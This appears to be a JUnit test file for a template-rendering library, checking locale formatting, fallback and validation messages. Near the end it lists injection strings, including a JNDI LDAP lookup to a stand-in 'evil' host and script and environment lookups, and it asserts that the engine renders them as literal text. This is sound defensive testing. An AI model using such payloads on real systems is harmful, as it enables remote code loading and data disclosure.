package dev.playbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.playbook.RenderedTemplate.VariableSpan;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Currency;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

/** Rendering templates: every variable type, locale formatting and fallback, every error, injection. */
class RenderTest {

  private static final CompiledPlaybook ENGINE = CompiledPlaybook.compile(Playbooks.load(
      Path.of("src/test/resources/dev/playbook/templates/render.yaml")).orThrow());
  private static final Locale EN_GB = Locale.forLanguageTag("en-GB");

  private static Map<String, Object> values() {
    Map<String, Object> v = new HashMap<>();
    v.put("name", "Sam");
    v.put("amount", "12.50 GBP");
    v.put("refundDate", "2026-12-03");
    v.put("days", "1000");
    v.put("rate", "2.50");
    v.put("via", "DM");
    return v;
  }

  private static Map<String, Object> with(String name, Object value) {
    Map<String, Object> v = values();
    v.put(name, value);
    return v;
  }

  private static String valueOf(RenderedTemplate r, String name) {
    return r.variables().stream().filter(s -> s.name().equals(name)).findFirst().orElseThrow()
        .span().of(r.text());
  }

  @Test
  void rendersEveryTypeForTheLocaleAndStripsLockedMarkers() {
    RenderedTemplate r = ENGINE.render("refund", EN_GB, values());
    assertThat(r.text()).isEqualTo("Hi Sam, £12.50 comes back on 3 December 2026 within 1,000 days"
        + " at 2.50% via DM. Refunds are   subject to our terms.");
    assertThat(r.locale()).isEqualTo(EN_GB);
    assertThat(r.templateId()).isEqualTo("refund");
    assertThat(r.variables()).extracting(VariableSpan::name)
        .containsExactly("name", "amount", "refundDate", "days", "rate", "via");
    assertThat(valueOf(r, "amount")).isEqualTo("£12.50");
    assertThat(valueOf(r, "refundDate")).isEqualTo("3 December 2026");
  }

  static Stream<Arguments> formatting() {
    return Stream.of(
        Arguments.of("de", "amount", "12.50 EUR", "12,50\u00a0€"),
        Arguments.of("de", "refundDate", "2026-12-03", "3. Dezember 2026"),
        Arguments.of("de", "days", 1000, "1.000"),
        Arguments.of("de", "rate", new BigDecimal("2.50"), "2,50"),
        Arguments.of("fr", "refundDate", LocalDate.of(2026, 12, 3), "3 décembre 2026"),
        Arguments.of("en-GB", "amount", new Money(new BigDecimal("15"), Currency.getInstance("EUR")), "€15.00"),
        Arguments.of("en-GB", "amount", "1500 JPY", "JP¥1,500"),
        Arguments.of("en-GB", "days", 42L, "42"),
        Arguments.of("en-GB", "days", BigInteger.TEN, "10"),
        Arguments.of("en-GB", "rate", 2.5d, "2.5"),
        Arguments.of("en-GB", "rate", 3, "3"),
        Arguments.of("en-GB", "via", "WhatsApp", "WhatsApp"),
        Arguments.of("en-GB", "name", "Zoë 😀", "Zoë 😀"));
  }

  @ParameterizedTest(name = "{0} {1} {2}")
  @MethodSource("formatting")
  void formatsEachTypeForTheLocale(String locale, String name, Object value, String expected) {
    RenderedTemplate r = ENGINE.render("refund", Locale.forLanguageTag(locale), with(name, value));
    assertThat(valueOf(r, name)).isEqualTo(expected);
  }

  @Test
  void fallsBackFromRegionToLanguageToTheDefaultLocale() {
    RenderedTemplate canadian = ENGINE.render("refund", Locale.forLanguageTag("fr-CA"), values());
    assertThat(canadian.locale()).isEqualTo(Locale.forLanguageTag("fr"));
    assertThat(canadian.text()).startsWith("Bonjour Sam");
    RenderedTemplate spanish = ENGINE.render("refund", Locale.forLanguageTag("es-ES"), values());
    assertThat(spanish.locale()).isEqualTo(EN_GB);
    // Formatted for the body's language, not the reader's: no Spanish month in an English body.
    assertThat(valueOf(spanish, "refundDate")).isEqualTo("3 December 2026");
  }

  @Test
  void anOptionalVariableLeftOutRendersAsNothing() {
    Map<String, Object> v = values();
    v.remove("name");
    RenderedTemplate r = ENGINE.render("refund", EN_GB, v);
    assertThat(r.text()).startsWith("Hi , £12.50");
    assertThat(r.variables().get(0)).isEqualTo(new VariableSpan("name", new Span(3, 3)));
  }

  static Stream<Arguments> errors() {
    Map<String, Object> missing = values();
    missing.remove("amount");
    return Stream.of(
        Arguments.of("nope", values(), null, "unknown template 'nope'; the playbook declares: refund"),
        Arguments.of("refund", missing, "amount",
            "template 'refund' needs a value for 'amount' (an amount and an ISO 4217 currency, such as 12.50 GBP)"),
        Arguments.of("refund", with("colour", "red"), "colour",
            "template 'refund' has no variable 'colour'; it has: name, amount, refundDate, days, rate, via"),
        Arguments.of("refund", with("name", "Bartholomew"), "name",
            "template 'refund': 'name' must be text of at most 10 characters, not 'Bartholomew' (11 characters)"),
        Arguments.of("refund", with("name", 7), "name", "'name' must be text of at most 10 characters, not 7 (Integer)"),
        Arguments.of("refund", with("days", "1.5"), "days", "'days' must be an integer such as 90, not '1.5'"),
        Arguments.of("refund", with("days", 1.5d), "days", "'days' must be an integer"),
        Arguments.of("refund", with("rate", "1e999999999"), "rate", "'rate' must be a decimal number such as 2.5"),
        Arguments.of("refund", with("rate", Double.NaN), "rate", "'rate' must be a decimal number"),
        Arguments.of("refund", with("refundDate", "03/12/2026"), "refundDate",
            "'refundDate' must be a date as YYYY-MM-DD, such as 2026-12-03, not '03/12/2026'"),
        Arguments.of("refund", with("amount", "12.50"), "amount", "'amount' must be an amount and an ISO 4217 currency"),
        Arguments.of("refund", with("amount", "12.50 XYZ"), "amount", "'XYZ' is not an ISO 4217 currency code"),
        Arguments.of("refund", with("amount", "12.505 GBP"), "amount", "GBP has 2 decimal places"),
        Arguments.of("refund", with("amount", "1e9 GBP"), "amount", "is not an amount such as 12.50"),
        Arguments.of("refund", with("via", "email"), "via", "'via' must be one of DM, WhatsApp, not 'email'"));
  }

  @ParameterizedTest(name = "{2}: {3}")
  @MethodSource("errors")
  void everyProblemIsAClearException(String id, Map<String, Object> values, String variable,
      String message) {
    assertThatThrownBy(() -> ENGINE.render(id, EN_GB, values))
        .isInstanceOfSatisfying(TemplateException.class, e -> {
          assertThat(e.templateId()).isEqualTo(id);
          assertThat(e.variable()).isEqualTo(java.util.Optional.ofNullable(variable));
        })
        .hasMessageContaining(message);
  }

  @Test
  void aTemplateWithoutABodyForTheLocaleOrTheDefaultIsAnError() {
    CompiledPlaybook engine = CompiledPlaybook.compile(Playbooks.load("""
        apiVersion: playbook.dev/v1
        kind: Playbook
        metadata: {id: p, title: P, version: 1.0.0, defaultLocale: en-GB, locales: [en-GB, fr], reviewBy: 2027-01-01}
        channels: [{id: chat, visibility: private}]
        templates:
          - id: only-french
            purpose: French only.
            locales: {fr: Bonjour.}
        """, "p.yaml").orThrow());
    assertThatThrownBy(() -> engine.render("only-french", Locale.forLanguageTag("de"), Map.of()))
        .isInstanceOf(TemplateException.class)
        .hasMessage("template 'only-french' has no body for de or the default locale en-GB; it has: fr");
  }

  static List<String> hostile() {
    return List.of("${jndi:ldap://evil/x}", "${script:javascript:java.lang.Runtime.getRuntime()}",
        "${env:HOME}", "${sys:user.name}", "{{amount}}", "{{#locked}}", "${{name}}", "$${x}",
        "\\{{via}}", "{{name:-x}}");
  }

  private static final CompiledPlaybook ECHO = CompiledPlaybook.compile(Playbooks.load("""
      apiVersion: playbook.dev/v1
      kind: Playbook
      metadata: {id: p, title: P, version: 1.0.0, defaultLocale: en-GB, reviewBy: 2027-01-01}
      channels: [{id: chat, visibility: private}]
      templates:
        - id: echo
          purpose: Echo.
          variables: [{name: note, type: string, example: x}, {name: via, type: enum, values: [DM]}]
          locales: {en-GB: 'Note: {{note}} {{ via }}.'}
      """, "p.yaml").orThrow());

  @ParameterizedTest
  @MethodSource("hostile")
  void valuesComeOutLiterallyWhateverTheyContain(String value) {
    RenderedTemplate r = ECHO.render("echo", EN_GB, Map.of("note", value, "via", "DM"));
    assertThat(r.text()).isEqualTo("Note: " + value + " DM.");
    assertThat(valueOf(r, "note")).isEqualTo(value);
    assertThat(valueOf(r, "via")).isEqualTo("DM");
  }
}
